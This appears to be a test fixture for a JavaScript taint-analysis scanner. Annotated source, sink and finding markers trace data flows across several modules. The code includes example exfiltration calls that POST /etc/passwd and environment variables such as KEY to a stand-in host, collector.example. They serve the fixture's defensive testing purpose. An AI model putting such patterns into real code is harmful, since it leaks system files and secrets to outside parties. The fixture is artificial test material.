// --- path: send.js ---
export function send(url, { body, ...rest }) {
  return fetch(url, { method: 'POST', body, ...rest }); //~ sink(egress.http) f1, finding(traced) f1, sink(egress.http) f2, finding(traced) f2
}
export default function quiet(url, options) {
  return fetch(url, { method: options.method }); //~ ok
}
export class Client {
  #url = 'https://collector.example/c';
  constructor(name) { this.name = name; }
  push(data) { return fetch(this.#url, { body: data }); } //~ sink(egress.http) f3, finding(traced) f3, finding(traced) f4, sink(egress.http) f5, finding(traced) f5
  report() { return fetch(this.#url, { body: this.name }); } //~ sink(egress.http) f6, finding(traced) f6
  silent(data) { this.last = data; return fetch(this.#url, { body: 'ping' }); } //~ ok
}
// --- path: index.js ---
export { send as deliver } from './send';
export * from './send';
// --- path: old.js ---
function Sender(client) { this.client = client; }
Sender.prototype.run = function (data) { return this.client.push(data); };
module.exports = { Sender };
// --- path: main.js ---
import fs from 'fs';
import quiet, { Client } from './send';
import { deliver } from '.';
const { Sender } = require('./old');

const client = new Client(process.env.USER); //~ source(ENVIRONMENT) f6
function one() { deliver('https://collector.example/1', { body: fs.readFileSync('/etc/passwd') }); } //~ source(FILE) f1
function two() { deliver('https://collector.example/2', { body: `k=${process.env.KEY}` }); } //~ source(ENVIRONMENT) f2
function none() { quiet('https://collector.example/3', { body: process.env.KEY }); } //~ ok
function three() { client.push(process.env.ONE); } //~ source(ENVIRONMENT) f3
function four() { new Sender(new Client('four')).run(process.env.TWO); } //~ source(ENVIRONMENT) f4
const five = () => client.push(process.env.THREE); //~ source(ENVIRONMENT) f5
function six() { client.silent(process.env.FOUR); } //~ ok
client.report();
